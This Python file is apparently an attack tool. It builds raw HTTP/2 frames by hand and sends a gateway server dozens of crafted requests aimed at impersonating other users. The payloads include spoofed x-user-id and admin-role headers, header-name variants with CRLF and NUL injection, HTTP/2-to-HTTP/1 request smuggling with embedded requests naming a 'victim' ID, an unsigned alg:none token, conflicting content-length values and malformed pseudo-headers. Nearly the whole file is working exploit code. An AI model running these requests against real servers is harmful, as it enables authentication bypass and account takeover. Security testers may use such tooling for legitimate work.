"""HTTP/2, frame by frame: what a library would refuse to send is what is sent here."""

from gateway_http import Answer, connect

DATA, HEADERS, RESET, SETTINGS, GOAWAY = 0, 1, 3, 4, 7
END_STREAM, END_HEADERS, PADDED, PRIORITY = 1, 4, 8, 32


class Answered(Answer):
    """A response: its status and its body. A stream that was refused has neither: 400."""

    def __init__(self, status, body, how):
        self.status, self.body, self.how, self.headers = status, body, how, []

    def __repr__(self):
        return f"{self.status} ({self.how}) {self.body[:400]!r}"


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def text(value):
    """A string as HPACK has it, without its code: length with seven bits first, then the bytes."""
    data = value.encode("latin-1")
    length = len(data)
    if length < 127:
        return bytes([length]) + data
    length -= 127
    more = b""
    while length >= 128:
        more += bytes([length % 128 + 128])
        length //= 128
    return b"\x7f" + more + bytes([length]) + data


def block(fields):
    """Header fields, each written out."""
    return b"".join(b"\x00" + text(name) + text(value) for name, value in fields)


def status(fields):
    """The status, which comes first: by its number in HPACK's table, or three digits."""
    while fields[0] & 0xE0 == 0x20:  # the table's size
        fields = fields[1:]
    known = {8: 200, 9: 204, 10: 206, 11: 304, 12: 400, 13: 404, 14: 500}
    if fields[0] & 0x80:
        return known[fields[0] & 0x7F]
    length, data = fields[1] & 0x7F, fields[2 : 2 + (fields[1] & 0x7F)]
    if not fields[1] & 0x80:
        return int(data)
    # In HPACK's code 0, 1 and 2 have five bits, other digits six.
    bits = "".join(f"{byte:08b}" for byte in data[:length])
    digits = ""
    while len(digits) < 3:
        short = int(bits[:5], 2)
        digits += str(short) if short < 3 else str(int(bits[:6], 2) - 22)
        bits = bits[5 if short < 3 else 6 :]
    return int(digits)


class Broken(Exception):
    """The connection ended."""


def read(connection, length):
    data = b""
    while len(data) < length:
        chunk = connection.recv(length - len(data))
        if not chunk:
            raise Broken
        data += chunk
    return data


def ask(address, fields, tls=False, body=b"", trailers=()):
    """One request, its fields exactly as they are given."""
    with connect(address, tls, "h2") as connection:
        if tls and connection.selected_alpn_protocol() != "h2":
            raise SystemExit("HTTP/2 is not spoken here")
        last = END_STREAM if not body and not trailers else 0
        said = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
        # No table to remember fields in: each answer says them anew.
        said += frame(SETTINGS, 0, 0, b"\x00\x01\x00\x00\x00\x00")
        said += frame(HEADERS, END_HEADERS | last, 1, block(fields))
        if body:
            said += frame(DATA, 0 if trailers else END_STREAM, 1, body)
        if trailers:
            said += frame(HEADERS, END_HEADERS | END_STREAM, 1, block(trailers))
        code, came = 0, b""
        try:
            connection.sendall(said)
            while True:
                head = read(connection, 9)
                kind, flags, stream = head[3], head[4], int.from_bytes(head[5:9], "big")
                payload = read(connection, int.from_bytes(head[:3], "big"))
                if kind == SETTINGS and not flags:
                    connection.sendall(frame(SETTINGS, 1, 0))
                if kind == GOAWAY and not code:
                    return Answered(400, b"", f"the connection was refused: {payload[8:]!r}")
                if stream != 1:
                    continue
                if kind == RESET and not code:
                    return Answered(400, b"", f"the stream was refused: {payload!r}")
                if flags & PADDED and kind in (DATA, HEADERS):
                    payload = payload[1 : -payload[0] or None]
                if kind == HEADERS and not code:
                    code = status(payload[5:] if flags & PRIORITY else payload)
                if kind == DATA:
                    came += payload
                if kind == RESET or flags & END_STREAM:
                    return Answered(code, came, "HTTP/2")
        except (Broken, ConnectionError, TimeoutError) as error:
            return Answered(code, came, f"ended: {error!r}")


# Fields beside the usual four.
FIELDS = [
    [("x-user-id", "{id}")],
    [("x_user_id", "{id}")],
    [("X-User-ID", "{id}")],
    [("X_USER_ID", "{id}")],
    [("x-user-id", "{id}"), ("x-user-id", "2"), ("x.user.id", "{id}")],
    [("x-user-id", "2"), ("x-user-role", "admin"), ("x-user-id", "{id}")],
    [("x-user-id ", "{id}")],
    [(" x-user-id", "{id}")],
    [("x-user-id:", "{id}")],
    [("x-user-id\0", "{id}")],
    [(":x-user-id", "{id}")],
    [("", "{id}"), ("x-user-id", "{id}")],
    [("x-identity", "eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0."), ("x-user-id", "{id}")],
    [("x_identity", "a"), ("xidentity", "b"), ("X-Identity", "c")],
    # Two lines in one, for a server behind that speaks HTTP/1.
    [("x-other", "a\r\nx-user-id: {id}")],
    [("x-other", "a\nx-user-id: {id}")],
    [("x-other", "a\rx-user-id: {id}")],
    [("x-other", "a\0x-user-id: {id}")],
    [("x-other\r\nx-user-id", "{id}")],
    [("x-other: a\r\nx-user-id", "{id}")],
    [("x-other", "a\r\n\r\nGET /api/auth/me?smuggled HTTP/1.1\r\nHost: gateway\r\nX-User-ID: {id}\r\n\r\n")],
    [("cookie", "x-user-id={id}"), ("cookie", "session={id}")],
    # Fields of a connection, which HTTP/2 does not have.
    [("connection", "x-user-id"), ("x-user-id", "{id}")],
    [("connection", "close, x-identity, x-user-id")],
    [("proxy-connection", "x-user-id"), ("keep-alive", "x-user-id")],
    [("upgrade", "websocket"), ("connection", "upgrade"), ("x-user-id", "{id}")],
    [("upgrade", "h2c"), ("http2-settings", "AAMAAABkAARAAAAAAAIAAAAA"), ("x-user-id", "{id}")],
    [("transfer-encoding", "chunked"), ("x-user-id", "{id}")],
    [("te", "trailers, x-user-id"), ("x-user-id", "{id}")],
    [("trailer", "x-user-id"), ("x-user-id", "{id}")],
    [("content-length", "5"), ("x-user-id", "{id}")],
    [("content-length", "0"), ("content-length", "5"), ("x-user-id", "{id}")],
    [("host", "auth"), ("x-user-id", "{id}")],
    [("host", "gateway"), ("host", "auth"), ("x-user-id", "{id}")],
    [("x-forwarded-uri", "/api/auth/login"), ("x-forwarded-method", "POST"), ("x-user-id", "{id}")],
    [("x_forwarded_uri", "/api/auth/login"), ("x-forwarded-for", "127.0.0.1"), ("forwarded", "for=127.0.0.1")],
    [("x-original-url", "/api/auth/login"), ("x-rewrite-url", "/api/auth/login"), ("x-user-id", "{id}")],
    [(":path", "/api/auth/login"), ("x-user-id", "{id}")],
    [(":method", "POST"), ("x-user-id", "{id}")],
    [(":status", "200"), ("x-user-id", "{id}")],
    [(":protocol", "websocket"), ("x-user-id", "{id}")],
]


def pseudo(path):
    """The four fields that HTTP/2 has for a request's first line, and what else they may be."""
    usual = [(":method", "GET"), (":scheme", "https"), (":authority", "gateway"), (":path", path)]

    def other(name, *values):
        return [field for field in usual if field[0] != name] + [(name, value) for value in values]

    line = f"{path} HTTP/1.1\r\nX-User-ID: 1\r\nX-Other: "
    return usual, [
        other(":path"),
        other(":path", ""),
        other(":path", "*"),
        other(":path", path, "/api/auth/login"),
        other(":path", "/api/auth/login", path),
        other(":path", line),
        other(":path", f"/api/auth/login {path}"),
        other(":path", f"{path}\r\nX-User-ID: 1"),
        other(":path", f"{path}\0"),
        other(":path", f"{path}#/api/auth/login"),
        other(":path", path[1:]),
        other(":path", f"/{path}"),
        other(":path", f"/api/auth/login/../../..{path}"),
        other(":path", f"/docs/..%2f{path[1:]}"),
        other(":path", f"http://gateway{path}"),
        other(":path", f"http://other.example{path}"),
        other(":method", "GET", "POST"),
        other(":method", f"GET {line}"),
        other(":method", ""),
        other(":method", "CONNECT"),
        other(":method", "CONNECT") + [(":protocol", "websocket")],
        other(":authority"),
        other(":authority", ""),
        other(":authority", "gateway", "auth"),
        other(":authority", "gateway\r\nX-User-ID: 1"),
        other(":authority", "gateway/api/auth/login?"),
        other(":authority", "user@gateway"),
        other(":scheme"),
        other(":scheme", "http"),
        other(":scheme", "ftp"),
        other(":scheme", "https://gateway/api/auth/login?"),
        other(":scheme", "http", "https"),
        other(":path", path) + [("Host", "gateway")],
        [("x-user-id", "1"), *usual],
    ]


def requests(path, victim, token):
    """All cases of HTTP/2: fields, body and trailers of each."""
    usual, others = pseudo(path)
    own = [("authorization", f"Bearer {token}")] if token else []
    said = [usual + own + extra for extra in FIELDS] + [other + own + [("x-user-id", "{id}")] for other in others]
    cases = [(fields, b"", ()) for fields in said]
    for after in (("x-user-id", "{id}"), ("x_user_id", "{id}"), ("X-User-ID", "{id}"), (":path", "/api/auth/login")):
        for announced in ([], [("trailer", "x-user-id, x_user_id")]):
            cases.append((usual + own + announced, b"a", [after]))
    # More and less of a body than was said.
    inside = f"GET {path}?smuggled HTTP/1.1\r\nHost: gateway\r\nX-User-ID: {victim}\r\nX-Other: ".encode()
    for length in ("0", "5", str(len(inside) + 5)):
        cases.append((usual + own + [("content-length", length)], inside, ()))

    def told(fields):
        return [(name.replace("{id}", str(victim)), value.replace("{id}", str(victim))) for name, value in fields]

    return [(told(fields), body, told(trailers)) for fields, body, trailers in cases]
